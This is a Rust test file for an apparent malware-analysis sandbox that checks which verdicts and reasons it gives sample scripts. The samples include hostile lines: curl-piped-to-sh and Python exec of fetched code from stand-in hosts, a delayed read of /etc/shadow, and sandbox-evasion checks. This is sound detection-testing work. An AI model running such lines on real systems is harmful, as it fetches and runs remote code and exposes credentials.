//! Tests of what is not clean although nothing bad was seen.

use super::Lab;
use serde_json::json;

/// Samples from real life: each of these used to be called clean, or unknown without a reason.
#[test]
fn silence_is_never_clean() {
    let lab = Lab::watching("[\"vm1\"]", "children_count = 2\n", 100);
    let _up = lab.site.up();
    let table: [(&str, &str, &str, &str); 18] = [
        (
            "pipe.sh",
            "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n",
            "suspicious",
            "runs-fetched: http://203.0.113.66/a.sh",
        ),
        ("bash.sh", "#!/bin/bash\nprintf '%s\\n' {1..3}\n", "clean", "it ran to its end in Linux"),
        (
            "tls.py",
            "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen('https://a.example/b').read())\n",
            "suspicious",
            "runs-fetched: https://a.example/b",
        ),
        ("absent.sh", "#!/bin/sh\nno-such-tool --now 2>/dev/null\nexit 0\n", "unknown", "no-such-tool was not there"),
        ("node.js", "#!/usr/bin/env node\nx\n", "unknown", "node was not there"),
        // It is harmless to a shell, and Windows reads it as something else.
        (
            "setup.bat",
            "#!/bin/sh\necho hello\n",
            "unknown",
            "by its name something else opens it: a script for Windows",
        ),
        (
            "dmi.sh",
            "#!/bin/sh\ncat /sys/class/dmi/id/sys_vendor > /dev/null; echo hi\nexit 0\n",
            "unknown",
            "it looked what machine it is on",
        ),
        (
            "up.sh",
            "#!/bin/sh\n[ $(cut -d. -f1 /proc/uptime) -gt 86400 ] && echo long\nexit 0\n",
            "unknown",
            "/proc/uptime",
        ),
        ("nothing.sh", "#!/bin/sh\nexit 0\n", "unknown", "it did nothing that can be seen"),
        ("late.sh", "#!/bin/sh\nsleep 86400; cat /etc/shadow\nexit 0\n", "suspicious", "waits: 86400 s"),
        (
            "nul.sh",
            "#!/bin/sh\nprintf 'a\\000b \\\\u0000'; printf x > \"/tmp/\\\\u0000\"\n",
            "clean",
            "it ran to its end in Linux",
        ),
        // A program is one also as the 34th file of a sample, beyond the size that is sent, and in a folder that was renamed.
        (
            "many.sh",
            "#!/bin/sh\nfor n in $(seq 33); do echo $n > /tmp/$n; done; cp /bin/true /tmp/x; echo done\n",
            "unknown",
            "it left programs: /tmp/x",
        ),
        (
            "large.sh",
            "#!/bin/sh\ncp /bin/true /tmp/x; truncate -s 40M /tmp/x; echo done\n",
            "unknown",
            "it left programs: /tmp/x",
        ),
        (
            "moved.sh",
            "#!/bin/sh\nmkdir ~/d; cp /bin/true ~/d/x; mv ~/d ~/e; echo done\n",
            "unknown",
            "it left programs: /home/user/e/x",
        ),
        // So is one whose name the report cannot hold, because it is no text or too long.
        (
            "named.sh",
            "#!/bin/bash\ncp /bin/true $'/tmp/\\xff'; echo done\n",
            "unknown",
            "more happened than was written down",
        ),
        (
            "deep.sh",
            "#!/bin/sh\ncd /tmp; for n in 1 2 3 4 5 6; do d=$(printf %0200d $n); mkdir $d; cd $d; done; cp /bin/true x; echo done\n",
            "unknown",
            "more happened than was written down",
        ),
        // Whoever types `bash help.sh` runs what the guest did not.
        ("help.sh", "#!/bin/bash --version\necho done\n", "unknown", "without that it may do something else"),
        (
            "text.sh",
            "#!/bin/sh\nyes all is well | head -c 41000000 > /tmp/long.log; echo done\n",
            "clean",
            "it ran to its end in Linux",
        ),
    ];
    for (name, script, verdict, reason) in table {
        let page = lab.ended(&lab.submit(name, script.as_bytes()));
        assert_eq!((&page["state"], &page["verdict"]), (&json!("done"), &json!(verdict)), "{name}: {page:#}");
        let reasons = page["reasons"].to_string();
        assert!(reasons.contains(reason), "{name}: {reason:?} is not in {reasons}");
        for form in ["--html", "--misp", "--stix", "--navigator"] {
            assert!(!lab.site.weir(&["lab", "report", &page["sample"].to_string(), form]).ok().is_empty());
        }
    }
    let powerpc = [&b"\x7fELF\x01\x02\x01"[..], &[0; 9], &[0, 2, 0, 20, 0, 0, 0, 1], &[0; 60]].concat();
    let page = lab.ended(&lab.submit("bot.ppc", &powerpc));
    assert_eq!(page["verdict"], "unknown", "{page:#}");
    assert!(
        page["reasons"].to_string().contains("it is a program for PowerPC, which this guest does not run"),
        "{page:#}"
    );
}
